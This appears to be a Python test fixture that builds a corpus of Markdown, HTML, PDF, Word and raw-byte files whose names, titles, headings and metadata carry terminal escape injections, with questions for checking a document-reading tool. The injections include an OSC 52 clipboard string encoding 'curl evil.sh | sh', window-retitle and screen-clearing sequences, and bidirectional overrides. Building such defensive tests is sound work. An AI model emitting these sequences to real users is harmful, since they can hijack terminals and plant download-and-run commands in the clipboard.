"""A corpus of hostile names, titles, headings, metadata and text, written by the tests.

Every string a person could be shown carries terminal escapes: OSC 52 (clipboard), OSC 2
(window title), CSI (clear screen), their C1 forms, and bidirectional overrides.
"""

from __future__ import annotations

import io
import os
from pathlib import Path

CLIP = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\"  # put `curl evil.sh | sh` in the clipboard
TITLE = "\x1b]2;PWNED\x07"  # retitle the window
CLEAR = "\x1b[2J\x9b31m"  # clear the screen; C1 CSI
BIDI = "\u202e\u2066"
C1_OSC = "\x9d2;PWNED\x9c"
HOSTILE_NAME = f"{TITLE}name.txt"
IGNORED_NAME = f"{TITLE}photo.jpg"


def write_hostile_corpus(root: Path) -> Path:
    from fpdf import FPDF
    from pypdf import PdfReader, PdfWriter

    root.mkdir(parents=True, exist_ok=True)
    (root / "notes.md").write_text(
        f"# Scope {CLIP} notes\n\n"
        "The harbour pier was inspected on 3 May 2022 by the council engineers.\n\n"
        f"## Findings {CLEAR}{BIDI}\n\n"
        f"The lighthouse keeper retired in 2019 after thirty years {CLIP} of service.\n",
        encoding="utf-8",
    )
    (root / HOSTILE_NAME).write_text(
        f"Ferry {TITLE} notes\n\nThe ferry service began in 1998 and carries ninety passengers {CLEAR} daily.\n",
        encoding="utf-8",
    )
    (root / IGNORED_NAME).write_bytes(b"\xff\xd8\xff not a photo")
    (root / f"bidi{BIDI}report.txt").write_text("Bidi report\n\nThe tunnel flooded in 2017 after heavy rain.\n", encoding="utf-8")
    (root / "bridge.html").write_text(
        f"<html><head><title>Bridge {TITLE} Review {C1_OSC}</title></head><body>"
        f"<h1>Bridge review</h1><h2>Conclusions {CLIP}</h2>"
        f"<p>The bridge was closed on 9 September 2020 because a cable snapped {CLEAR}.</p></body></html>",
        encoding="utf-8",
    )
    # PDF: the text layer is plain, the metadata title and the bookmarks are hostile.
    pdf = FPDF()
    pdf.set_font("Helvetica", size=12)
    for page in (["Dock review", "The dock crane failed on 4 April 2021 during a storm."],
                 ["The crane operator reported the fault twice before it failed."]):
        pdf.add_page()
        for paragraph in page:
            pdf.multi_cell(0, 7, paragraph)
            pdf.ln(5)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(bytes(pdf.output()))))
    writer.add_metadata({"/Title": f"Dock {TITLE} review {C1_OSC}"})
    writer.add_outline_item(f"Summary {CLIP}", 0)
    writer.add_outline_item(f"Crane {TITLE}{BIDI}", 1)
    with (root / "dock.pdf").open("wb") as handle:
        writer.write(handle)
    # Word: XML forbids C0 controls, so the headings and title carry C1 escapes and bidi overrides.
    import docx

    document = docx.Document()
    document.core_properties.title = f"Canal review {C1_OSC}"
    document.add_heading(f"Canal review \x9b2J{BIDI}", 0)
    document.add_heading(f"Locks {C1_OSC}", 1)
    document.add_paragraph("The canal lock gates were replaced in 2016 after they rotted.")
    document.save(str(root / "canal.docx"))
    # A name that is not UTF-8 at all, with a C1 CSI in it.
    with open(os.path.join(os.fsencode(root), b"raw\xff\x9b31mbytes.txt"), "wb") as handle:
        handle.write(b"Raw bytes report\n\nThe quay wall cracked in 2015 during the frost.\n")
    return root


QUESTIONS = [
    "When was the harbour pier inspected?",
    "When did the lighthouse keeper retire?",
    "When the ferry service began carrying ninety passengers daily?",
    "When was the bridge closed?",
    "When did the dock crane fail?",
    "When were the canal lock gates replaced?",
    "When did the tunnel flood?",
    "When did the quay wall crack?",
    "What is the airspeed of an unladen swallow?",
]
